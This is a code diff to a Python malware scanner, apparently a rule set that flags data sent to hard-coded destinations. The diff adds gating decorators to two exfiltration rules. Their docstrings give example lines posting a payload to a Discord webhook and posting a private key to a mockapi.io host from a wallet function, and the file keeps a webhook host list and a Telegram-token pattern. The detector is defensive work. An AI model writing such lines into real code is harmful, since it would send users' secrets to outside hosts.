@@ -36,7 +36,7 @@ from douane.analysis.context import (
     const_str,
     walk_order,
 )
-from douane.analysis.interface import FileType, Hit, Tag, anchored
+from douane.analysis.interface import FileType, Hit, Tag, anchored, gated
 from douane.analysis.process import HOLE, command_of, is_exec_call, loose_str
 from douane.analysis.pyapi import matches, tail
 from douane.analysis.registry import file_rule, node_rule
@@ -1165,16 +1165,24 @@ _HOOK_HOSTS = frozenset({"discord.com", "discordapp.com", "ptb.discord.com", "ca
 _TELEGRAM_TOKEN_BYTES = re.compile(rb"['\"]\d{6,12}:[A-Za-z0-9_-]{30,}['\"]")
 
 
-def _may_send(ctx: PyContext, need_drop: bool) -> bool:
+def _may_send(file: FileContext, need_drop: bool) -> bool:
     """Whether the per-file flow analysis is worth running. Without a drop destination in the
     text, only a secret sent to an ordinary fixed host can be found: not looked for in tests
     (tests copy and patch the environment all the time) or in very large generated files."""
-    drop, sources = _candidate(ctx.file)
+    drop, sources = _candidate(file)
     if drop:
         return True
     if need_drop or not sources:
         return False
-    return ctx.file.where is not Where.TEST and len(ctx.file.member.data) < 1_000_000
+    return file.where is not Where.TEST and len(file.member.data) < 1_000_000
+
+
+def _may_send_to_drop(file: FileContext) -> bool:
+    return _may_send(file, need_drop=True)
+
+
+def _may_send_anywhere(file: FileContext) -> bool:
+    return _may_send(file, need_drop=False)
 
 
 def facts_for(ctx: PyContext) -> Facts:
@@ -1910,6 +1918,7 @@ _SEND_TRIGGERS = (
     triggers=_SEND_TRIGGERS,
     tags=(Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
 )
+@gated(_may_send_to_drop)
 def send_to_fixed_drop_destination(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
     """What it does: flags a request that sends data (POST/PUT, attached data or params,
     data in the URL, a webhook client, a `curl -d`) to a destination written in the code
@@ -1928,7 +1937,7 @@ def send_to_fixed_drop_destination(node: ast.Module, ctx: PyContext) -> Iterator
 
     Example: `requests.post("https://discord.com/api/webhooks/1/AbC…", json=payload)`.
     """
-    if not _may_send(ctx, need_drop=True):
+    if not _may_send(ctx.file, need_drop=True):
         return
     facts = facts_for(ctx)
     for send in facts.sends:
@@ -1961,6 +1970,7 @@ def send_to_fixed_drop_destination(node: ast.Module, ctx: PyContext) -> Iterator
     triggers=_SEND_TRIGGERS,
     tags=(Tag.SECRET_READ, Tag.NETWORK_SEND, Tag.FIXED_DESTINATION),
 )
+@gated(_may_send_anywhere)
 def secret_sent_to_fixed_destination(node: ast.Module, ctx: PyContext) -> Iterator[Hit]:
     """What it does: follows data from what it reads to where it is sent, in the same
     function, through module variables, through functions that return it, and into helper
@@ -1986,7 +1996,7 @@ def secret_sent_to_fixed_destination(node: ast.Module, ctx: PyContext) -> Iterat
     Example: `requests.post("https://x.mockapi.io/keys", json={"k": private_key})` inside an
     ordinary-looking `create_wallet()` function.
     """
-    if not _may_send(ctx, need_drop=False):
+    if not _may_send(ctx.file, need_drop=False):
         return
     facts = facts_for(ctx)
     reported: set[int] = set()
